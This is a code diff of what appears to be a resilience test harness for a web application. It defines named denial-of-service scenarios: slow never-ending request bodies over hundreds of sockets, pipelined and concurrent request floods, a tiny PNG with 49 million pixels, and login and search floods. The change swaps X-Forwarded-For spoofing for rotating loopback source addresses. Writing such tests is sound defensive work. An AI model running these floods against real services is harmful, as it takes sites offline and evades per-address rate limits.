@@ -5,11 +5,14 @@
 import { connect } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 import sharp from 'sharp';
+import { ask } from './ask.mjs';
 import { openForms } from './visitors.mjs';
 
 const BIG_SIDE = 7000;
 const STATUS = /HTTP\/1\.1 (\d{3})/gu;
 const BATCH_SIZE = 1000;
+/** Between an answer and the next request of a connection. Senders without a pause would measure themselves: they run on the same cores. */
+const PAUSE_MS = 250;
 
 /**
  * @typedef {{ origin: string, token: string, isOver: () => boolean, address: (of: number) => string }} Target
@@ -26,28 +29,28 @@ const atOnce = ({ isOver }, count, work) =>
     Array.from({ length: count }, async (_, index) => {
       for (let turn = index; !isOver(); turn += count) {
         await work(turn).catch(() => undefined);
-        await pause(1);
+        await pause(PAUSE_MS);
       }
     }),
   );
 
-/** @param {string} url @param {RequestInit & { headers?: Record<string, string> }} [options] */
-async function ask(url, options) {
-  const answer = await fetch(url, options);
-  tally(answer.status);
-  await answer.arrayBuffer();
+/** @param {string} address @param {string} url @param {import('./ask.mjs').Options} [options] */
+async function send(address, url, options) {
+  const { status } = await ask(address, url, options);
+  tally(status);
 }
 
-/** Sockets that each send a head and what `goOn` says, opened again where they end. */
+/** Sockets that each send a head and then what `goOn` says, opened again where they end. */
 const sockets = (
   /** @type {Target} */ target,
   /** @type {number} */ count,
+  /** @type {(index: number) => string} */ addressOf,
   /** @type {(index: number) => string} */ head,
   /** @type {(socket: import('node:net').Socket) => Promise<unknown>} */ goOn,
 ) =>
   atOnce(target, count, async (index) => {
-    const { hostname, port } = new URL(target.origin);
-    const socket = connect(Number(port), hostname);
+    const { hostname: host, port } = new URL(target.origin);
+    const socket = connect({ host, port: Number(port), localAddress: addressOf(index) });
     socket
       .on('error', () => undefined)
       .on('data', (chunk) => {
@@ -61,9 +64,8 @@ const sockets = (
     }
   });
 
-/** @param {Target} target @param {number} of */
-const headOf = ({ origin, address }, of) =>
-  `Host: ${new URL(origin).host}\r\nOrigin: ${origin}\r\nX-Forwarded-For: ${address(of)}\r\n`;
+/** @param {Target} target */
+const headOf = ({ origin }) => `Host: ${new URL(origin).host}\r\nOrigin: ${origin}\r\n`;
 
 /** A PNG of few bytes and 49 million points. */
 const bigPicture = () =>
@@ -75,10 +77,9 @@ const bigPicture = () =>
 export const ATTACKS = {
   'twenty wrong logins': (target) =>
     atOnce(target, 20, (turn) =>
-      ask(`${target.origin}/de/anmelden`, {
+      send(target.address(turn), `${target.origin}/de/anmelden`, {
         method: 'POST',
-        redirect: 'manual',
-        headers: { origin: target.origin, 'x-forwarded-for': target.address(turn) },
+        headers: { origin: target.origin },
         body: new URLSearchParams({ email: `a${turn}@example.org`, password: 'wrong' }),
       }),
     ),
@@ -95,7 +96,9 @@ export const ATTACKS = {
         'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 100000\r\n\r\n--x\r\n'
       );
     };
-    return sockets(target, 16, head, async (socket) => {
+    const addressOf = (/** @type {number} */ index) =>
+      visitors[index % visitors.length]?.address ?? target.address(0);
+    return sockets(target, 16, addressOf, head, async (socket) => {
       socket.write('-');
       await pause(1000);
     });
@@ -106,51 +109,59 @@ export const ATTACKS = {
     return atOnce(target, 6, (turn) => {
       const body = new FormData();
       body.append('file', file, 'big.png');
-      const { headers } = visitors[turn % visitors.length] ?? { headers: {} };
-      return ask(`${target.origin}/de/api/temp-files/`, { method: 'POST', headers, body });
+      const { address, headers } = visitors[turn % visitors.length] ?? { address: '', headers: {} };
+      return send(address, `${target.origin}/de/api/temp-files/`, {
+        method: 'POST',
+        headers,
+        body,
+      });
     });
   },
   'unknown addresses, pipelined': (target) => {
     let number = 0;
     const line = () =>
-      `GET /de/none-${(number += 1)} HTTP/1.1\r\n${headOf(target, 1)}Accept: text/html\r\n\r\n`;
-    return sockets(target, 1, line, async (socket) => {
-      socket.write(Array.from({ length: 50 }, line).join(''));
-      await pause(20);
-    });
+      `GET /de/none-${(number += 1)} HTTP/1.1\r\n${headOf(target)}Accept: text/html\r\n\r\n`;
+    return sockets(
+      target,
+      1,
+      () => target.address(1),
+      line,
+      async (socket) => {
+        socket.write(Array.from({ length: 50 }, line).join(''));
+        await pause(20);
+      },
+    );
   },
   'unknown addresses, 60 connections': (target) =>
     atOnce(target, 60, (turn) =>
-      ask(`${target.origin}/de/none-at-all-${turn}`, {
-        headers: { 'x-forwarded-for': target.address(2) },
-      }),
+      send(target.address(2), `${target.origin}/de/none-at-all-${turn}`),
     ),
   'the description of the API': (target) =>
     atOnce(target, 8, (turn) =>
-      ask(`${target.origin}/${turn % 2 ? 'de/api/openapi.json' : 'de/schnittstelle'}?a=${turn}`, {
-        headers: { 'x-forwarded-for': target.address(3) },
-      }),
+      send(
+        target.address(3),
+        `${target.origin}/${turn % 2 ? 'de/api/openapi.json' : 'de/schnittstelle'}?a=${turn}`,
+      ),
     ),
   'addresses that are rendered each time': (target) =>
     atOnce(target, 16, (turn) =>
-      ask(
+      send(
+        target.address(4),
         target.origin +
           ([`/de?v=`, `/de?version_id=`, `/poster/event-${turn}-1.webp`][turn % 3] ?? ''),
-        { headers: { 'x-forwarded-for': target.address(4) } },
       ),
     ),
   'searches that nobody asked for': (target) =>
     atOnce(target, 32, (turn) =>
-      ask(`${target.origin}/de/search?q=flood${turn}`, {
-        headers: { 'x-forwarded-for': target.address(5) },
-      }),
+      send(target.address(5), `${target.origin}/de/search?q=flood${turn}`),
     ),
   'bodies that do not end, 660 sockets': (target) =>
     sockets(
       target,
       660,
-      (index) =>
-        `POST /de/api/shop-cart/ HTTP/1.1\r\n${headOf(target, 6 + (index % 3))}` +
+      (index) => target.address(6 + (index % 3)),
+      () =>
+        `POST /de/api/shop-cart/ HTTP/1.1\r\n${headOf(target)}` +
         `Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"a":"${'a'.repeat(52_000)}`,
       () => pause(250),
     ),
@@ -170,12 +181,11 @@ export const ATTACKS = {
         },
       }));
     return atOnce(target, 1, (turn) =>
-      ask(`${target.origin}/de/api/batch/`, {
+      send(target.address(9), `${target.origin}/de/api/batch/`, {
         method: 'POST',
         headers: {
           authorization: `Bearer ${target.token}`,
           'content-type': 'application/json',
-          'x-forwarded-for': target.address(9),
         },
         body: JSON.stringify({ operations: operations(turn) }),
       }),
@@ -185,7 +195,8 @@ export const ATTACKS = {
     sockets(
       target,
       400,
-      () => `GET /de HTTP/1.1\r\n${headOf(target, 10)}\r\n`,
+      () => target.address(10),
+      () => `GET /de HTTP/1.1\r\n${headOf(target)}\r\n`,
       () => pause(250),
     ),
 };
@@ -198,7 +209,7 @@ if (file === import.meta.filename) {
     origin,
     token,
     isOver: () => performance.now() > end,
-    address: (of) => `203.0.113.${of % 250}`,
+    address: (of) => `127.9.0.${(of % 250) + 1}`,
   };
   await ATTACKS[name]?.(target);
   console.log(JSON.stringify(answers));
